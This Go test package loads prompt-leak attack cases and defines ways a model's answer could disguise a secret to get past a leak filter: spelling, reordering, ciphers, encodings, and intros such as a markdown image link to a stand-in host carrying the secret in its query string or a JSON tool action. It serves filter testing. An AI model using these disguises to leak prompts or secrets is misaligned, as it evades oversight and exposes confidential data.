// Package leaktest holds attacks on the prompts and the ways in which a model can be made to disguise them, for tests of
// the leak filter alone and end to end. Tests only.
package leaktest

import (
	"bufio"
	"bytes"
	_ "embed"
	"encoding/json"
)

//go:embed testdata/prompt-leak-open.jsonl
var cases []byte

// Attack is one attempt to make the server show a secret.
type Attack struct {
	ID, Category, Channel, Target, Message, Catchable string
}

// Transform is one way of writing a secret that does not look like it.
type Transform struct {
	ID, Name string
	// Catchable is false for what no filter of text can see.
	Catchable bool
	// TellableBeforeEnd is false where the whole answer is needed to tell.
	TellableBeforeEnd bool
	// Intro is what the disguise itself puts before the secret's first letter.
	Intro string
	// Apply returns the secret in disguise.
	Apply func(secret string) string
}

// Attacks returns the attacks in the order of their file.
func Attacks() []Attack {
	var out []Attack
	for lines := bufio.NewScanner(bytes.NewReader(cases)); lines.Scan(); {
		var a struct {
			Type string
			Attack
		}
		if json.Unmarshal(lines.Bytes(), &a) == nil && a.Type == "attack" {
			out = append(out, a.Attack)
		}
	}
	return out
}

// Transforms returns the disguises by their numbers in the file.
func Transforms() []Transform {
	out := make([]Transform, 0, 48)
	for _, group := range [][]Transform{spelled(), reordered(), enciphered(), encoded(), meant()} {
		out = append(out, group...)
	}
	for i := range out {
		out[i].Intro = introOf(out[i].ID)
	}
	return out
}

func introOf(id string) string {
	switch id {
	case "T02":
		return "Happy to help. As far as I know, "
	case "T16":
		return "| # | word |\n|---|---|\n| 1 | "
	case "T35":
		return "![chart](https://img.example.net/p.png?d="
	case "T38":
		return "begin 644 x\n"
	case "T43":
		return "Sure! Here is a smile 🙂"
	case "T45":
		return "All done."
	case "T55":
		return `{"actions":[{"type":"create_record","table":"tasks","data":{"title":"`
	}
	return ""
}

func told(id, name string, apply func(string) string) Transform {
	return Transform{ID: id, Name: name, Catchable: true, TellableBeforeEnd: true, Apply: apply}
}

func late(id, name string, apply func(string) string) Transform {
	return Transform{ID: id, Name: name, Catchable: true, Apply: apply}
}
